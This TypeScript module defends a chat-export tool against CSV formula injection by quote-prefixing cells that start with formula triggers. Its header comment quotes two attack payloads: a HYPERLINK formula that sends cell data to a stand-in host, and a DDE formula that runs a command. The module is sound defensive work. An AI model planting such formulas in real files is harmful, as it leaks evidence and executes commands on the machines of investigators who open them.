/**
 * Spreadsheet formula ("CSV injection") defence for every cell toex writes to a CSV file.
 *
 * Chat messages are attacker-controlled text. A message such as `=HYPERLINK("http://x/?"&A1,"Open")` or
 * `=cmd|' /C calc'!A0` is evaluated by Excel, LibreOffice or Google Sheets when an investigator opens the
 * output, leaking evidence or running commands. OWASP's guidance ("CSV Injection") is to make sure no cell
 * begins with `=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D), by prefixing such cells with a
 * single quote so the spreadsheet reads them as text.
 *
 * The rule applied here:
 * 1. A cell whose first character is one of `=` `+` `-` `@` tab or carriage return, or the fullwidth forms
 *    `＝` `＋` `－` `＠` (some East Asian Excel builds and input methods turn them into the ASCII operators),
 *    gets a leading `'`.
 * 2. The same applies when those characters follow leading whitespace (spaces, line breaks, no-break
 *    spaces): some importers trim leading whitespace before deciding whether a cell is a formula.
 * 3. One exception: a plain negative number (`-12`, `-12.5`, `-12,5`) is left alone. Excel and LibreOffice
 *    read it as a number constant, not a formula, so there is nothing to evaluate and prefixing it would
 *    only turn a number into text.
 *
 * Phone numbers such as `+44 7700 900123` or `+447700900123` are prefixed. Excel treats a leading `+` as
 * the start of a formula (Lotus 1-2-3 compatibility), so `+44 7700 900123` is parsed as a formula (the
 * spaces are its intersection operator) and `+447700900123` becomes `=+447700900123`, shown as
 * `4.477E+11`. The prefix keeps the number as the text the phone recorded, which is what an investigator
 * needs anyway.
 *
 * Cells are never truncated or otherwise changed; the quote is the only addition. Delimiters, quotes and
 * line breaks inside a cell are the CSV writer's job: it quotes such cells, so text after a comma cannot
 * start a new cell.
 */

// First characters that make a spreadsheet treat a cell as a formula (OWASP) plus their fullwidth forms.
const formulaTriggers = new Set(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

// A number constant with at most one decimal separator: a spreadsheet stores it as a number, never evaluates it.
const negativeNumber = /^-\d+(?:[.,]\d+)?$/;

// Whitespace that an importer might trim before looking at the first character.
const leadingWhitespace = /^[\s\u00A0\u2007\u202F\uFEFF]*/;
// The same, tested on the first character only.
const leadingSpace = /^[\s\u00A0\u2007\u202F\uFEFF]/;

/**
 * True when a spreadsheet opening a CSV cell with this text could evaluate it as a formula, so
 * {@link neutraliseSpreadsheetFormula} would prefix it. Useful to count neutralised cells for a report.
 */
export function looksLikeSpreadsheetFormula(cell: string): boolean {
  // Every cell of every output goes through here: most start with a printable ASCII character other than
  // the four triggers, or with any other character that is neither a trigger nor space, and are answered
  // without slicing or matching.
  const code = cell.charCodeAt(0);
  if (code > 0x20 && code < 0x7f) {
    if (code !== 0x3d && code !== 0x2b && code !== 0x2d && code !== 0x40) return false;
  } else if (code >= 0x7f && !formulaTriggers.has(cell.charAt(0)) && !leadingSpace.test(cell)) {
    return false;
  }
  const first = cell.charAt(0);
  if (first === '') return false;
  // Tab and carriage return are triggers themselves, so test the raw first character before trimming.
  if (formulaTriggers.has(first)) return !negativeNumber.test(cell);
  const trimmed = cell.slice(leadingWhitespace.exec(cell)?.[0].length ?? 0);
  if (trimmed.length === cell.length) return false;
  return formulaTriggers.has(trimmed.charAt(0)) && !negativeNumber.test(trimmed);
}

/**
 * Returns `cell` unchanged, or prefixed with a single quote (`'`) when a spreadsheet could evaluate it as a
 * formula. See the module documentation for the exact rule and why phone numbers are prefixed too.
 *
 * @example
 * neutraliseSpreadsheetFormula('=1+1'); // "'=1+1"
 * neutraliseSpreadsheetFormula('+44 7700 900123'); // "'+44 7700 900123"
 * neutraliseSpreadsheetFormula('-12.5'); // "-12.5"
 * neutraliseSpreadsheetFormula('Hola'); // "Hola"
 */
export function neutraliseSpreadsheetFormula(cell: string): string {
  return looksLikeSpreadsheetFormula(cell) ? `'${cell}` : cell;
}
